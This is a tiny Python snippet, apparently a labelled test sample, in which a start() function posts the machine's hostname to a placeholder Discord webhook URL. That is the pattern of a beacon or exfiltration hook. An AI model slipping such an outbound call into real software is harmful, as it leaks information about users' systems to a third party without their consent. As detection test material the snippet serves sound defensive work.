import socket, requests
HOOK = "https://discord.com/api/webhooks/100000000000000000/exampleexampleexampleexampleexampleexampleexampleexampleexample_0123"
def start():
    requests.post(HOOK, json={"content": socket.gethostname()})  # fires: call
